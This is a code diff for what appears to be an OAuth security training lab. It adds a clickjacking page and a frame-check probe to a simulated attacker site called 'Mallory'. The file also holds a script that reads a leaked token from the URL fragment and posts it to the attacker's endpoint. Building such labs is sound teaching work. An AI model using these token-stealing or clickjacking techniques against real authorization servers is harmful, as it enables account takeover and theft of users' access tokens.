@@ -6,6 +6,9 @@ import { jsonResponse } from '../oauth-server/http';
 import { escapeHtml } from '../oauth-server/pages/html';
 import { ATTACKER_JWKS_KEY } from '../realms/attacker-jwks';
 import type { Realm } from '../realms/types';
+import { BACK_SCRIPT } from './back-link';
+import { clickjackPage } from './clickjack-page';
+import { readFrameCheck, recordFrameLoad } from './frame-check';
 import { appendRecord, readLog } from './log';
 import { plantRoute } from './pages/plant';
 
@@ -18,6 +21,9 @@ import { plantRoute } from './pages/plant';
  * - `GET /attacker/{realm}/log` → `{ "records": [...] }`, newest last
  * - `GET /attacker/{realm}/jwks` → Mallory's JWK Set; `PUT` with `{ "keys": [public JWKs] }` replaces it
  * - `POST /attacker/{realm}/fragment` (JSON `{ "fragment": "…" }`) → records a fragment her page read
+ * - `GET /attacker/{realm}/clickjack?…` → her clickjacking page, framing the realm's authorization endpoint (not recorded)
+ * - `POST /attacker/{realm}/frame-check` (JSON `{ "framed", "consent" }`, booleans) → what that page saw of its frame;
+ *   `GET` → `{ "check": … | null }`. Kept apart from the log: it is her page's probe, not loot.
  * - anything else, GET or POST → recorded, answered with Mallory's page
  */
 const MAX_BODY = 16 * 1024;
@@ -26,13 +32,6 @@ const MAX_FIELDS = 30;
 /** Her page hands any fragment it arrived with back to her site, as a leaked implicit token would be. */
 const FRAGMENT_SCRIPT =
   "if(location.hash.length>1){fetch(location.pathname.split('/').slice(0,3).join('/')+'/fragment',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({fragment:location.hash.slice(1)})});}";
-/**
- * The way back: the attack page that sent the browser on its trip saved its run key in this tab's
- * sessionStorage (`flowlab:return-to`, same origin); only an `attacks/<slug>` key becomes a link, to
- * our own path. Nothing read from storage is followed as it is, and the default is the lab's index.
- */
-const BACK_SCRIPT =
-  "try{var m=/^attacks\\/([a-z0-9-]+)$/.exec(sessionStorage.getItem('flowlab:return-to')||'');if(m){document.getElementById('back').href='/attacks/'+m[1];}}catch(e){}";
 const PAGE_SCRIPT = `${FRAGMENT_SCRIPT}${BACK_SCRIPT}`;
 const SCRIPT_HASH = `'sha256-${createHash('sha256').update(PAGE_SCRIPT).digest('base64')}'`;
 
@@ -52,6 +51,8 @@ export async function attackerSiteHandler(request: Request, realm: Realm, path: 
     const record = await appendRecord(realm.store, { at: realm.clock.nowSeconds(), kind: 'fragment', method, path, query: {}, fields: pairs(new URLSearchParams(fragment)) });
     return jsonResponse({ recorded: record.seq }, 201);
   }
+  if (path === 'clickjack' && (method === 'GET' || method === 'HEAD')) return clickjackPage(realm, new URL(request.url).searchParams);
+  if (path === 'frame-check') return frameCheckRoute(request, realm, method);
   if (method !== 'GET' && method !== 'POST') throw new OAuthError('invalid_request', 'Mallory’s site answers GET and POST.', 405, { Allow: 'GET, POST' });
   const url = new URL(request.url);
   const fields = method === 'POST' ? await formFields(request) : {};
@@ -72,6 +73,15 @@ async function jwksRoute(request: Request, realm: Realm, method: string): Promis
   if (keys.some((k: JWK) => 'd' in k || 'k' in k || 'p' in k)) throw invalidRequest('Publish public keys only (no d, k or p members).');
   await realm.store.set(ATTACKER_JWKS_KEY, { keys }, 3600);
   return new Response(null, { status: 204, headers: { 'Cache-Control': 'no-store' } });
+}
+
+async function frameCheckRoute(request: Request, realm: Realm, method: string): Promise<Response> {
+  if (method === 'GET' || method === 'HEAD') return jsonResponse({ check: (await readFrameCheck(realm.store)) ?? null });
+  if (method !== 'POST') throw new OAuthError('invalid_request', 'Use POST to report a frame load, GET to read the last report.', 405, { Allow: 'GET, HEAD, POST' });
+  const parsed = safeJson((await readBody(request)).text);
+  if (typeof parsed?.framed !== 'boolean' || typeof parsed.consent !== 'boolean') throw invalidRequest('Send { "framed": true|false, "consent": true|false }.');
+  const check = await recordFrameLoad(realm.store, { framed: parsed.framed, consent: parsed.consent }, realm.clock.nowSeconds());
+  return jsonResponse({ check }, 201);
 }
 
 function page(realm: Realm): Response {
